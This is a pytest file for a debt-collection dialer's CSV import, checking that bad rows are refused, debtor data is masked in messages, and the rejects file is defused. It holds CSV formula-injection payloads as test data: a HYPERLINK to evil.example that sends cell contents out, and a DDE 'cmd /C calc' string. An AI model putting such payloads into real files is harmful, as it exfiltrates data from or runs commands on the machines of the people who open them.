"""CSV import of hostile files: NUL bytes, numbers beyond their columns, spreadsheet
formulas, debtor data in the wrong column, a store that refuses. Every bad row is refused
with its line, column and a reason that quotes nothing in clear; the rejects file runs no
formula; nothing ever ends in a traceback, on SQLite and PostgreSQL, with and without
--skip-bad, through the function and through `dialer import-cases`."""

from __future__ import annotations

import asyncio
import csv
import re
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker
from typer.testing import CliRunner

from dialer.cli import app
from dialer.portfolio.cells import FORMULA_STARTS, MAX_DAYS_PAST_DUE, NUL
from dialer.portfolio.csv_import import ImportFileError, import_cases
from dialer.store.db import create_engine, migrate, session_factory
from dialer.store.repositories import CampaignRepository
from dialer.store.tables import CaseRow

Factory = async_sessionmaker[AsyncSession]
HEADER = "debtor_ref,name,phone,balance,days_past_due,skills,notes\n"
# (row, a fragment of its reason); None: a good row. The first row is line 2.
ROWS: list[tuple[str, str | None]] = [
    ("G1,Good One,+1 212 555 0111,10,5,,", None),
    (f'N1,"Nul{NUL}Name",+1 212 555 0121,10,5,,', "name: contains a NUL byte"),
    (f"N2,Ann Bee,+1 212 555 0122,10,5,,x{NUL}", "notes: contains a NUL byte"),
    (f"N3,Cy Dee,+1 212 555 0123,10,5{NUL},,", "days_past_due: contains a NUL byte"),
    ("R1,Range One,+1 212 555 0124,10,2147483648,,", "days_past_due: out of range"),
    ("R2,Range Two,+1 212 555 0125,10,99999999999999999999999,,", "days_past_due: out of"),
    ("R3,Range Three,+1 212 555 0126,1000000000000.00,5,,", "balance: too large"),
    ("R4,Range Four,+1 212 555 0127,1e3,5,,", "balance: not a number"),
    ("R5,Range Five,+1 212 555 0128,10,1_000,,", "days_past_due: not a whole number"),
    ("R6,Range Six,+1 212 555 0129,10,٣,,", "days_past_due: not a whole number"),
    (
        'F1,"=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",+1 212 555 0131,10,5,,',
        "name: starts with '='",
    ),
    ("+F2,Plus Ref,+1 212 555 0132,10,5,,", "debtor_ref: starts with '+'"),
    ("F3,@SUM(A1:A9),+1 212 555 0133,10,5,,", "name: starts with '@'"),
    ("F4,-2+3+cmd|' /C calc'!A0,+1 212 555 0134,10,5,,", "name: starts with '-'"),
    ('F5,"\tTab Name",+1 212 555 0135,10,5,,', "name: starts with '\\t'"),
    ('F6,"\r=1+1",+1 212 555 0136,10,5,,', "name: starts with '\\r'"),
    ("F7,Skill Person,+1 212 555 0137,10,5,es;=1+1,", "skills: starts with '='"),
    ("F8,  =1+1,+1 212 555 0138,10,5,,", "name: starts with '='"),
    (f"G2,Max Days,+1 212 555 0141,10,{MAX_DAYS_PAST_DUE},,", None),
    ("G3,Max Balance,+1 212 555 0142,999999999999.99,5,,", None),
    ("G4,Dash-In Name,+1 212 555 0143,10,0,es;late,=note", None),  # notes: not stored
]
HOSTILE = HEADER + "".join(row + "\n" for row, _ in ROWS)


def _first_lines() -> list[int]:
    """Each row's first line as the CSV reader counts (a CR inside quotes ends a line)."""
    lines, line = [], 2
    for row, _ in ROWS:
        lines.append(line)
        line += 1 + row.count("\r") + row.count("\n")
    return lines


BAD = {
    line: reason
    for line, (_, reason) in zip(_first_lines(), ROWS, strict=True)
    if reason is not None
}
GOOD_REFS = ["G1", "G2", "G3", "G4"]
# Debtor data in the wrong columns: every reason must quote it masked, if at all.
SHIFTED = (
    "debtor_ref,name,phone,balance,days_past_due,timezone,consent,bucket,currency\n"
    "S1,Jane Roe,+1 212 555 0151,Johnathan Doe,5,,,,\n"
    "S2,Jane Roe,+1 212 555 0152,10,+1 212 555 0199,,,,\n"
    "S3,Jane Roe,+1 212 555 0153,10,5,Johnathan Doe,,,\n"
    "S4,Jane Roe,+1 212 555 0154,10,5,,Johnathan,,\n"
    "S5,Jane Roe,+1 212 555 0155,10,5,,,Doe,\n"
    "S6,Jane Roe,+1 212 555 0156,10,5,,,,+12125550199\n"
)
CLEAR = ("Johnathan", "Doe", "Jane", "Roe", "HYPERLINK", "evil", "calc", "SUM", "Tab Name")


@pytest.fixture
async def factory(migrated_engine: AsyncEngine) -> Factory:
    factory = session_factory(migrated_engine)
    async with factory() as session, session.begin():
        await CampaignRepository(session).upsert("demo", compliance_profile="us_tsr_regf")
    return factory


def write(tmp_path: Path, content: str, name: str = "cases.csv") -> Path:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8", newline="")
    return path


def assert_masked(messages: list[str]) -> None:
    for message in messages:
        numbers = re.sub(rf"{MAX_DAYS_PAST_DUE}|ISO 4217|999999999999\.99", "", message)
        assert not re.search(r"\d{3}", numbers), message
        for word in CLEAR:
            assert word not in message, message


async def refs(factory: Factory) -> dict[str, CaseRow]:
    async with factory() as session:
        return {row.debtor_ref: row for row in await session.scalars(select(CaseRow))}


def assert_defused(path: Path) -> list[dict[str, str]]:
    """The rejects file: no NUL, no cell a spreadsheet would evaluate."""
    raw = path.read_text(encoding="utf-8")
    assert NUL not in raw
    with path.open(newline="", encoding="utf-8") as file:
        table = list(csv.reader(file))
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert not cell.lstrip().startswith(FORMULA_STARTS), cell
    header, *rows = table
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_hostile_rows_refused_and_nothing_written(factory: Factory, tmp_path: Path) -> None:
    report = await import_cases(factory, write(tmp_path, HOSTILE), "demo", "US")
    assert not report.committed and report.rejected == len(BAD)
    reasons = {error.line: error.reason for error in report.errors}
    assert sorted(reasons) == sorted(BAD)
    for line, fragment in BAD.items():
        assert fragment in reasons[line], (line, reasons[line])
    assert_masked(list(reasons.values()))
    assert await refs(factory) == {}


async def test_skip_bad_loads_the_rest_and_defuses_the_rejects(
    factory: Factory, tmp_path: Path
) -> None:
    rejects = tmp_path / "rejects.csv"
    path = write(tmp_path, HOSTILE)
    report = await import_cases(factory, path, "demo", "US", True, rejects)
    assert report.committed and (report.inserted, report.rejected) == (len(GOOD_REFS), len(BAD))
    cases = await refs(factory)
    assert sorted(cases) == GOOD_REFS
    # The limits are the columns': the largest values round-trip exactly.
    assert cases["G2"].days_past_due == MAX_DAYS_PAST_DUE
    assert cases["G3"].balance == Decimal("999999999999.99")
    assert cases["G4"].display_name_masked == "D****** N***" and cases["G4"].skills == [
        "es",
        "late",
    ]
    rows = assert_defused(rejects)
    assert [int(row["line"]) for row in rows] == sorted(BAD)
    by_ref = {row["debtor_ref"]: row for row in rows}
    hyperlink = by_ref["F1"]["name"]
    assert hyperlink == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    assert "'+F2" in by_ref and "+F2" not in by_ref
    assert by_ref["N1"]["name"] == "Nul\u2400Name"
    assert by_ref["F5"]["name"] == "'\tTab Name"
    assert by_ref["R1"]["days_past_due"] == "2147483648"  # numbers stay as they were


async def test_messages_quote_shifted_debtor_data_only_masked(
    factory: Factory, tmp_path: Path
) -> None:
    report = await import_cases(factory, write(tmp_path, SHIFTED), "demo", "US")
    reasons = [error.reason for error in report.errors]
    assert [error.line for error in report.errors] == [2, 3, 4, 5, 6, 7]
    assert "balance: not a number 'J******** D**'" in reasons[0]
    assert "days_past_due: not a whole number '+*********99'" in reasons[1]
    assert "timezone: unknown time zone 'J******** D**'" in reasons[2]
    assert "consent: not a yes/no value 'J********'" in reasons[3]
    assert "bucket: unknown bucket 'D**'" in reasons[4]
    assert "currency: not an ISO 4217 code '+*********99'" in reasons[5]
    assert_masked(reasons)


async def _refuse_inserts(factory: Factory) -> None:
    """A store that refuses every new case, with the debtor_ref in its error text."""
    async with factory() as session, session.begin():
        if session.get_bind().dialect.name == "sqlite":
            await session.execute(
                text(
                    "CREATE TRIGGER refuse BEFORE INSERT ON cases "
                    "BEGIN SELECT RAISE(ABORT, 'refused'); END"
                )
            )
        else:
            await session.execute(
                text(
                    "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS "
                    "$$ BEGIN RAISE EXCEPTION 'refused %', NEW.debtor_ref; END $$"
                )
            )
            await session.execute(
                text(
                    "CREATE TRIGGER refuse BEFORE INSERT ON cases "
                    "FOR EACH ROW EXECUTE FUNCTION refuse()"
                )
            )


async def test_a_store_refusal_is_a_file_error_naming_no_debtor(
    factory: Factory, tmp_path: Path
) -> None:
    await _refuse_inserts(factory)
    rejects = tmp_path / "rejects.csv"
    with pytest.raises(ImportFileError) as caught:
        await import_cases(factory, write(tmp_path, HOSTILE), "demo", "US", True, rejects)
    message = str(caught.value)
    assert "the store refused the import" in message and "nothing was written" in message
    assert "G1" not in message and "+1" not in message and "INSERT" not in message
    assert not rejects.exists()  # written inside the transaction that was rolled back
    assert await refs(factory) == {}


async def test_an_unwritable_rejects_file_imports_nothing(factory: Factory, tmp_path: Path) -> None:
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where a directory should be")
    with pytest.raises(ImportFileError, match="cannot write the rejects file"):
        await import_cases(
            factory, write(tmp_path, HOSTILE), "demo", "US", True, blocker / "rejects.csv"
        )
    assert await refs(factory) == {}


# ----- through the command line -------------------------------------------------------------

runner = CliRunner()


def _config(tmp_path: Path, db_url: str) -> Path:
    path = tmp_path / "dialer.yaml"
    path.write_text(
        f"""
database: {{url: "{db_url}"}}
logging: {{level: WARNING}}
campaigns:
  - name: demo
    compliance_profile: us_tsr_regf
    caller_id: "+12125550100"
"""
    )
    return path


def _cli(tmp_path: Path, db_url: str, csv_path: Path, *extra: str) -> tuple[int, str, str]:
    args = ["import-cases", str(csv_path), "--campaign", "demo"]
    result = runner.invoke(app, [*args, "--config", str(_config(tmp_path, db_url)), *extra])
    # An exception the command did not turn into a message would be result.exception.
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.output
    return result.exit_code, result.stdout, result.stderr


def _stored(db_url: str) -> list[str]:
    async def main() -> list[str]:
        engine = create_engine(db_url)
        try:
            async with session_factory(engine)() as session:
                return sorted(await session.scalars(select(CaseRow.debtor_ref)))
        finally:
            await engine.dispose()

    return asyncio.run(main())


@pytest.mark.parametrize("skip_bad", [False, True], ids=["all-or-nothing", "skip-bad"])
def test_cli_reports_each_bad_row_masked(db_url: str, tmp_path: Path, skip_bad: bool) -> None:
    path = write(tmp_path, HOSTILE)
    extra = ["--skip-bad"] if skip_bad else []
    code, out, err = _cli(tmp_path, db_url, path, *extra)
    prefix = f"{path}:"
    lines = [row.removeprefix(prefix) for row in err.splitlines() if row.startswith(prefix)]
    assert len(lines) == len(BAD), err
    for line, fragment in BAD.items():
        assert any(row.startswith(f"{line}: ") and fragment in row for row in lines), (line, err)
    assert_masked(lines)
    if skip_bad:
        assert code == 0 and "4 inserted" in out and f"{len(BAD)} rejected" in out
        assert _stored(db_url) == GOOD_REFS
        assert_defused(path.with_suffix(".rejects.csv"))
    else:
        assert code == 1 and "NOT imported" in out
        assert _stored(db_url) == []


def test_cli_store_refusal_is_one_line(db_url: str, tmp_path: Path) -> None:
    async def prepare() -> None:
        await migrate(db_url)
        engine = create_engine(db_url)
        try:
            factory = session_factory(engine)
            async with factory() as session, session.begin():
                await CampaignRepository(session).upsert("demo", compliance_profile="us_tsr_regf")
            await _refuse_inserts(factory)
        finally:
            await engine.dispose()

    asyncio.run(prepare())
    path = write(tmp_path, HOSTILE)
    code, _out, err = _cli(tmp_path, db_url, path, "--skip-bad")
    assert code == 2
    assert err.startswith("error: ") and "the store refused the import" in err
    assert "G1" not in err
